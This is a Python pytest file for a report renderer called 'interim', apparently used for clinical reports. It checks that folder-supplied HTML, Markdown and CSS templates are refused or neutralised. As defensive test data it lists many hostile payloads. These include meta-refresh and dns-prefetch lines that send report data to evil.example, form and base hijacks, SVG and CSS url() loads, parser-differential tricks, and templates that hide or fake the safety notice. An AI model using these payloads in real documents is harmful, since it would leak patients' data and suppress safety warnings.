"""What a report template may write is an allow-list (issue 10): elements and attributes
outside it are refused (IM920, exit 2) naming the template, the element and its line in the
rendered report. Nothing a template writes may navigate, prefetch, submit or load."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest
from test_render_support import make_folder, rendered

from interim.render import TemplateProblem

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "example-folder"
HAZARDS = Path(__file__).resolve().parent / "hazards"

LEAKS = {
    "meta-refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example/?d={{ safety.summary|urlencode }}">',
    "dns-prefetch": '<link rel="dns-prefetch" href="//{{ header.name|urlencode }}.evil.example">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="d" value="{{ safety.summary }}"><button>ok</button></form>',
}


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_folder(tmp_path_factory.mktemp("allow"), hostile=False)


def with_template(base: Path, tmp_path: Path, text: str, name: str = "report.html.j2") -> Path:
    import shutil

    root = tmp_path / "folder"
    shutil.copytree(base, root)
    (root / "templates").mkdir(exist_ok=True)
    (root / "templates" / name).write_text(text, encoding="utf-8")
    return root


def in_header(markup: str) -> str:
    return (
        '{% extends "default:report.html.j2" %}{% block header %}'
        + markup
        + "{{ super() }}{% endblock %}"
    )


@pytest.mark.parametrize("name", sorted(LEAKS))
def test_the_leaks_of_issue_10_are_refused(base: Path, tmp_path: Path, name: str) -> None:
    """The hole: these rendered with exit 0 and sent data away when the report was opened
    (meta refresh, prefetch) or clicked (base, forms)."""
    root = with_template(base, tmp_path, in_header(LEAKS[name]))
    with pytest.raises(TemplateProblem) as caught:
        rendered(root, "html")
    assert caught.value.path == "templates/report.html.j2"
    assert "line " in caught.value.message


# Each hostile template, and what interim must do with it: "refused" (IM920), "moved" (the
# notice is put back right after <body>), or "warned" (IM921: written, the style ignored by
# the browser; tests/test_browser_notice.py shows it has no effect).
HOSTILE: dict[str, tuple[str, str]] = {
    "meta-refresh": (in_header(LEAKS["meta-refresh"]), "refused"),
    "meta-refresh-entity": (
        in_header('<meta http-equiv="&#114;efresh" content="0;url=https://evil.example">'),
        "refused",
    ),
    "meta-csp-own": (
        in_header('<meta http-equiv="Content-Security-Policy" content="x">'),
        "refused",
    ),
    "dns-prefetch": (in_header(LEAKS["dns-prefetch"]), "refused"),
    "link-stylesheet": (
        in_header('<link rel="stylesheet" href="https://evil.example/a.css">'),
        "refused",
    ),
    "base": (in_header(LEAKS["base"]), "refused"),
    "form": (in_header(LEAKS["form"]), "refused"),
    "button-formaction": (
        in_header('<button formaction="https://evil.example">x</button>'),
        "refused",
    ),
    "img-remote": (in_header('<img src="https://evil.example/p.png">'), "refused"),
    "img-data": (in_header('<img src="data:image/png;base64,AAAA">'), "refused"),
    "picture-srcset": (
        in_header('<picture><source srcset="https://evil.example/x"></picture>'),
        "refused",
    ),
    "video-poster": (in_header('<video poster="https://evil.example/x"></video>'), "refused"),
    "iframe": (in_header('<iframe src="https://evil.example"></iframe>'), "refused"),
    "object": (in_header('<object data="https://evil.example"></object>'), "refused"),
    "script": (in_header("<script>location='https://evil.example'</script>"), "refused"),
    "noscript": (in_header("<noscript><p>x</p></noscript>"), "refused"),
    "template": (in_header("<template><p>x</p></template>"), "refused"),
    "onclick": (in_header('<p onclick="x()">x</p>'), "refused"),
    "ping": (
        in_header('<a href="https://example.org" ping="https://evil.example">x</a>'),
        "refused",
    ),
    "javascript-href": (in_header('<a href=" java&#x09;script:alert(1)">x</a>'), "refused"),
    "relative-href": (in_header('<a href="//evil.example/x">x</a>'), "refused"),
    "svg-image": (in_header('<svg><image href="https://evil.example/x"/></svg>'), "refused"),
    "svg-use": (in_header('<svg><use href="https://evil.example/s.svg#a"/></svg>'), "refused"),
    "svg-feimage": (
        in_header('<svg><filter><feImage href="https://evil.example"/></filter></svg>'),
        "refused",
    ),
    "style-url": (
        in_header("<style>body{background:url(https://evil.example/x)}</style>"),
        "refused",
    ),
    "style-url-escaped": (
        in_header("<style>body{background:u\\72l(https://evil.example)}</style>"),
        "refused",
    ),
    "style-import": (in_header("<style>@import 'https://evil.example/a.css';</style>"), "refused"),
    "style-attr-url": (
        in_header('<p style="background-image:url(https://evil.example)">x</p>'),
        "refused",
    ),
    "style-font-face": (
        in_header("<style>@font-face{font-family:x;src:local(Arial)}</style>"),
        "refused",
    ),
    "comment-differential": (
        in_header('<!--> <meta http-equiv="refresh" content="0"> -->'),
        "refused",
    ),
    "cdata-differential": (
        in_header('<![CDATA[ > <meta http-equiv="refresh" content="0"> ]]>'),
        "refused",
    ),
    "title-differential": (
        in_header('<svg><title><meta http-equiv="refresh" content="0"></title></svg>'),
        "refused",
    ),
    "unquoted-trick": (in_header("<p title=x/onclick=alert(1)>x</p>"), "refused"),
    "fake-notice": (
        in_header('<div class="interim-safety" id="safety2">All fine.</div>'),
        "refused",
    ),
    "style-element": (in_header("<style>h1{color:teal}</style>"), "warned"),
    "style-attribute": (in_header('<p style="color:teal">x</p>'), "warned"),
    "style-block": (
        '{% extends "default:report.html.j2" %}{% block style %}h1{color:red}{% endblock %}',
        "warned",
    ),
    "wrapped-in-div": (
        "<html><head></head><body><div hidden>{{ safety_banner }}</div><p>x</p></body></html>",
        "moved",
    ),
    "wrapped-in-details": (
        "<html><head></head><body><details>{{ safety_banner }}</details></body></html>",
        "moved",
    ),
    "wrapped-in-main": (
        "<html><head></head><body><main>{{ safety_banner }}</main></body></html>",
        "moved",
    ),
    "pushed-down": (
        "<html><head></head><body>" + "<p>filler</p>" * 30 + "{{ safety_banner }}</body></html>",
        "moved",
    ),
    "loose-text-before": (
        "<html><head></head><body>" + "filler " * 500 + "{{ safety_banner }}</body></html>",
        "moved",
    ),
}


def outcome(base: Path, tmp_path: Path, template: str) -> tuple[str, str]:
    """What interim did with the template, and the report or the message."""
    from test_render_support import context_for

    from interim.diagnostics import Diagnostic
    from interim.render import SafetyNoticeMissing, render

    root = with_template(base, tmp_path, template)
    context, _ = context_for(root)
    notes: list[Diagnostic] = []
    try:
        html = render(context, "html", folder_root=root, notes=notes)
    except (TemplateProblem, SafetyNoticeMissing) as exc:
        return "refused", str(exc)
    text = html.decode("utf-8")
    if notes:
        assert {n.code for n in notes} == {"IM921"}
        return "warned", notes[0].message
    body = text.index("<body")
    start = text.index('<section class="interim-safety"')
    placed_first = re.fullmatch(r"<body>\s*", text[body:start]) is not None
    return ("moved" if placed_first else "kept"), text


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_templates(base: Path, tmp_path: Path, name: str) -> None:
    template, expected = HOSTILE[name]
    got, detail = outcome(base, tmp_path, template)
    assert got == expected, detail[:300]
    if got == "refused" and "line " in detail:
        assert detail.startswith("templates/report.html.j2:"), detail


def test_links_get_rel(base: Path, tmp_path: Path) -> None:
    root = with_template(
        base, tmp_path, in_header('<a href="https://example.org/x">x</a><a href="#glance">y</a>')
    )
    html = rendered(root, "html")
    assert '<a rel="noreferrer noopener" href="https://example.org/x">x</a>' in html
    assert '<a href="#glance">y</a>' in html


MD_HOSTILE = {
    "details": "# T\n\n<details>\n\n{{ safety_banner }}\n\n</details>\n",
    "hidden-div": '# T\n\n<div style="display:none">\n\n{{ safety_banner }}\n\n</div>\n',
    "comment": "# T\n\n<!--\n\n{{ safety_banner }}\n\n-->\n",
    "title-html": "# T <span hidden>\n\n{{ safety_banner }}\n",
    "image": "# T\n\n{{ safety_banner }}\n\n![x](https://evil.example/p.png)\n",
    "style": "# T\n\n{{ safety_banner }}\n\n<style>blockquote{display:none}</style>\n",
    "html-after-outside-list": '# T\n\n{{ safety_banner }}\n\n<meta http-equiv="refresh" content="0">\n',
}


@pytest.mark.parametrize("name", sorted(MD_HOSTILE))
def test_markdown_wrappers_and_loads_are_refused(base: Path, tmp_path: Path, name: str) -> None:
    root = with_template(base, tmp_path, MD_HOSTILE[name], "report.md.j2")
    with pytest.raises(TemplateProblem) as caught:
        rendered(root, "md")
    assert caught.value.path == "templates/report.md.j2"


def test_markdown_link_definition_cannot_swallow_it(base: Path, tmp_path: Path) -> None:
    """A link reference definition's title may span lines: the notice, a block quote, ends
    the paragraph it would hide in, so CommonMark viewers show it."""
    from markdown_it import MarkdownIt

    root = with_template(
        base, tmp_path, "# T\n\n[x]: <#> '\n{{ safety_banner }}\n'\n", "report.md.j2"
    )
    html = MarkdownIt("commonmark").render(rendered(root, "md"))
    assert "<blockquote>\n<p><strong>⚠ SAFETY: PHQ-9 item 9.</strong>" in html


def test_markdown_html_after_the_notice_is_allowed(base: Path, tmp_path: Path) -> None:
    root = with_template(base, tmp_path, "# T\n\n{{ safety_banner }}\n\nA<br>B\n", "report.md.j2")
    assert "A<br>B" in rendered(root, "md")


REPORT_CSS = {
    "url": ("body { background: url(https://evil.example/x) }", 1),
    "import": ("h1{color:red}\n@import 'x.css';", 2),
    "leaves-its-layer": ("h1{color:red}\n} #safety{display:none!important} @layer x {", 2),
    "unclosed-comment": ("h1{color:red}\n/* the rest", 2),
    "unclosed-block": ("h1{color:red", 1),
    "ends-the-style": ("h1{color:red}\n</style><meta http-equiv=refresh content=0>", 2),
    "font-face": ("@font-face{font-family:'Segoe UI';src:local(Wingdings)}", 1),
}


@pytest.mark.parametrize("name", sorted(REPORT_CSS))
def test_report_css_that_could_escape_is_refused(base: Path, tmp_path: Path, name: str) -> None:
    css, line = REPORT_CSS[name]
    root = with_template(base, tmp_path, css, "report.css")
    with pytest.raises(TemplateProblem) as caught:
        rendered(root, "html")
    assert (caught.value.path, caught.value.line) == ("templates/report.css", line)


def test_report_css_is_applied_in_its_layer(base: Path, tmp_path: Path) -> None:
    root = with_template(base, tmp_path, "h1 { color: teal }", "report.css")
    html = rendered(root, "html")
    assert "@layer folder {\nh1 { color: teal }\n}" in html


def test_the_warning_on_the_command_line(base: Path, tmp_path: Path, run_cli: Any) -> None:
    root = with_template(base, tmp_path, HOSTILE["style-element"][0])
    result = run_cli(["report", str(root), "-o", str(tmp_path / "r.html")])
    assert result.exit_code == 0
    assert "templates/report.html.j2:1:1: warning IM921 " in result.stderr
    assert "templates/report.css" in result.stderr


# -- interim's own templates: inside the allow-list by construction ---------------------------

_FOLDERS = ["hostile", "ordinary", "example-folder", *sorted(p.name for p in HAZARDS.iterdir())]


@pytest.mark.parametrize("which", _FOLDERS)
@pytest.mark.parametrize("profile", ["full", "scores-only"])
def test_own_templates_pass_the_allow_list_unchanged(
    tmp_path: Path, which: str, profile: str
) -> None:
    """A page only interim's templates made is not parsed against the allow-list (the
    speed issue); here it is, for hostile text, the example folder and every hazard folder:
    nothing is refused and no link needed marking, so the page is byte for byte the same."""
    from test_render_support import context_for

    from interim.render.document import render_html

    if which in ("hostile", "ordinary"):
        root = make_folder(tmp_path, hostile=which == "hostile")
    else:
        root = EXAMPLE if which == "example-folder" else HAZARDS / which
    context, _ = context_for(root, profile)
    plain = render_html(context, root, cache=False)
    checked = render_html(context, root, cache=False, check_own=True)
    assert plain == checked


def test_a_folder_template_is_still_checked(base: Path, tmp_path: Path) -> None:
    """The parse is skipped only when no folder template had a part: a partial of the
    folder's own, included by interim's report, is checked like a whole report."""
    root = make_folder(tmp_path / "f")
    partial = root / "templates" / "report" / "sections"
    partial.mkdir(parents=True)
    from interim.render.env import folder_loader

    names = folder_loader(None).list_templates()
    section = next(n for n in names if n.startswith("report/sections/") and "mood" in n)
    (root / "templates" / section).write_text('<meta http-equiv="refresh" content="0">\n')
    with pytest.raises(TemplateProblem, match="meta") as refused:
        rendered(root, "html")
    assert "refresh" in str(refused.value)
